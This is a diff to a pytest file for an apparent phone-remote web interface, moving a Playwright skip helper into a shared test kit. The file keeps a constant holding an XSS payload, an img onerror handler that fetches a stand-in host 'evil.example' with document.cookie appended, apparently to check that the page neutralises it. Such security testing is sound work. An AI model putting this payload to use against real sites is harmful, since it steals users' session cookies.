@@ -7,11 +7,8 @@ scripts/phone_screenshot.py from the same kit (tests/remote_kit.py).
 
 from __future__ import annotations
 
-import os
-
-import pytest
 from helpers import wait_for
-from remote_kit import CHROMIUM, PHONE, SCREEN_SUM, phone_remote
+from remote_kit import CHROMIUM, PHONE, SCREEN_SUM, phone_remote, playwright_or_skip
 
 from anovax.desktop import SimulatedDesktop
 from anovax.events import EventType
@@ -19,20 +16,10 @@ from anovax.events import EventType
 XSS = '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">'
 
 
-def _playwright():
-    try:
-        from playwright.sync_api import sync_playwright
-    except ImportError:
-        pytest.skip("playwright is not installed (pip install playwright; it is in the [dev] extra)")
-    if not os.access(CHROMIUM, os.X_OK):
-        pytest.skip(f"{CHROMIUM} is missing (Debian package chromium; `make test` installs it)")
-    return sync_playwright
-
-
 def test_the_buttons_stay_put_when_the_screen_picture_arrives_or_pauses(tmp_path):
     """A tap aimed at a button must land on it: the picture above the buttons keeps its box
     whether a frame has arrived or not (a layout shift made a loaded run's tap miss)."""
-    sync_playwright = _playwright()
+    sync_playwright = playwright_or_skip()
     with phone_remote(tmp_path) as (_assistant, server, _frames):
         with sync_playwright() as p:
             browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=["--no-sandbox"])
@@ -50,7 +37,7 @@ def test_the_buttons_stay_put_when_the_screen_picture_arrives_or_pauses(tmp_path
 
 
 def test_phone_page_pairs_runs_a_command_and_shows_the_live_screen(tmp_path):
-    sync_playwright = _playwright()
+    sync_playwright = playwright_or_skip()
     desktop = SimulatedDesktop()
     with phone_remote(tmp_path, desktop) as (assistant, server, _frames):
         evil_requests = []
